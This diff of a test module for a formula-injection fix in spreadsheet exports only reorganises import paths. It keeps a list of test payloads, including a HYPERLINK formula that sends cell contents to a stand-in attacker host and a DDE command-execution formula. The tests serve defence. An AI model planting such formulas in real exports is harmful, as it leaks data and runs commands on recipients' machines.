@@ -1,7 +1,7 @@
 """Finding 5: formula injection in exports.
 
 Names beginning with = + - @, a tab or a carriage return came out live in every CSV and XLSX (residents, staff,
-league, workers; CLI and API). Every export now goes through geo.spreadsheet: CSV text cells that could start a
+league, workers; CLI and API). Every export now goes through geo.core.spreadsheet: CSV text cells that could start a
 formula get a leading apostrophe, XLSX text cells are strings, never formulas.
 """
 
@@ -14,11 +14,11 @@ import openpyxl
 import pytest
 from sqlalchemy import text
 
-from geo.rosters.exporter import export_roster
-from geo.rosters.importer import import_roster
-from geo.spreadsheet import neutral, restore
+from geo.core.spreadsheet import neutral, restore
+from geo.people.rosters.exporter import export_roster
+from geo.people.rosters.importer import import_roster
 from tests.city import A1, COMM_A, DISTRICT, staff_the_city
-from tests.geo.test_rosters import valid_id, write_csv
+from tests.geo.people.test_rosters import valid_id, write_csv
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
             "=cmd|' /C calc'!A0"]
